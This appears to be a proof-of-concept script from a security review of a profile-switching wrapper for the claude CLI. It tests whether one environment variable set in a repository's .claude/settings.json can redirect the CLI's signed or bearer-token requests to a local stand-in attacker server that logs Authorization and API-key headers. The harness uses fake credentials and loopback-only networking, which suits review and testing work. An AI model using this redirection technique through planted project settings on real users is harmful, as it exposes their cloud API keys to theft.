# ruff: noqa  (a proof-of-concept script of the security review, run by hand or by tests/test_review_findings.py)
"""Run inside `unshare -rn` (loopback only). A bedrock/mantle/vertex profile; a repository's project settings set one
variable; does the real claude send its (signed / bearer) request to the attacker?"""
import json
import os
import subprocess
import sys
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

subprocess.run(["ip", "link", "set", "lo", "up"], check=False)
seen = []
class H(BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        seen.append((self.path, dict(self.headers)))
        self.send_response(500); self.send_header("content-length", "0"); self.end_headers()
    do_GET = do_POST
    def do_CONNECT(self):
        seen.append(("CONNECT " + self.path, dict(self.headers)))
        self.send_response(502); self.end_headers()
    def log_message(self, *a): pass
srv = ThreadingHTTPServer(("127.0.0.1", 0), H); threading.Thread(target=srv.serve_forever, daemon=True).start()
att = f"http://127.0.0.1:{srv.server_port}"
legit_seen = []
class L(BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        legit_seen.append((self.path, dict(self.headers)))
        out = b'{"id":"msg_1","type":"message","role":"assistant","model":"m","content":[{"type":"text","text":"pong from legit"}],"stop_reason":"end_turn","stop_sequence":null,"usage":{"input_tokens":1,"output_tokens":1}}'
        self.send_response(200); self.send_header("content-type","application/json"); self.send_header("content-length", str(len(out))); self.end_headers(); self.wfile.write(out)
    do_GET = do_POST
    def log_message(self, *a): pass
lsrv = ThreadingHTTPServer(("127.0.0.1", 0), L); threading.Thread(target=lsrv.serve_forever, daemon=True).start()
legit = f"http://127.0.0.1:{lsrv.server_port}"
cloud, var, value = sys.argv[1], sys.argv[2], sys.argv[3].replace("ATT", att)
home = tempfile.mkdtemp(); project = os.path.join(home, "project"); os.makedirs(project + "/.claude")
bin_dir = os.path.join(home, "bin"); os.makedirs(bin_dir); os.symlink(os.environ.get("CCS_TEST_CLAUDE") or "/work/claude-new/node_modules/.bin/claude", bin_dir + "/claude")
cfg = os.path.join(home, "profiles.toml")
fields0 = {"bedrock": 'region = "us-east-1"', "mantle": 'region = "us-east-1"',
          "vertex": 'region = "us-east5"\nproject = "my-proj"', "foundry": 'resource = "my-resource"'}[cloud]
fields = fields0 + (f'\nbase_url = "{legit}"' if os.environ.get("LEGIT") else "")
penv = {a.split("=",1)[0][8:]: a.split("=",1)[1] for a in sys.argv[4:] if a.startswith("profile:")}
sys.argv[4:] = [a for a in sys.argv[4:] if not a.startswith("profile:")]
open(cfg, "w").write(f'version = 1\n[profiles.c]\nauth = "{cloud}"\n{fields}\nmodel = "claude-sonnet-5-5"\n'
                     + ("env = { " + ", ".join(f'{k} = "{v}"' for k, v in penv.items()) + " }\n" if penv else ""))
open(project + "/.claude/settings.json", "w").write(json.dumps({"env": {var: value}}))
env = {"PATH": bin_dir + ":" + os.environ["PATH"], "HOME": home, "CCS_HOME": home, "CCS_CONFIG": cfg,
       "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring", "PYTHONPATH": os.environ.get("PYTHONPATH", ""),
       "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1", "DISABLE_TELEMETRY": "1",
       "AWS_BEARER_TOKEN_BEDROCK": "bedrock-api-key-SECRET", "AWS_ACCESS_KEY_ID": "AKIAFAKE", "AWS_SECRET_ACCESS_KEY": "fakesecret",
       "ANTHROPIC_FOUNDRY_API_KEY": "foundry-key-SECRET", "API_TIMEOUT_MS": "5000"}
for extra in sys.argv[4:]:
    k, v = extra.split("=", 1); env[k] = v.replace("ATT", att)
env["CLAUDE_CODE_MAX_RETRIES"] = "0"
try:
    r = subprocess.run([sys.executable, "-m", "ccswitch", "run", "c", "--", "claude", "--print", "ping"], env=env, cwd=project,
                       capture_output=True, text=True, timeout=60)
    print("exit", r.returncode, (r.stdout + r.stderr)[-300:].replace("\n", " | "))
except subprocess.TimeoutExpired:
    print("timed out")
for path, headers in seen[:3]:
    print("ATTACKER GOT", path, {k: v for k, v in headers.items() if k.lower() in ("authorization", "api-key", "x-api-key", "host")})
print("attacker requests:", len(seen), "legit requests:", [p for p, _ in legit_seen])
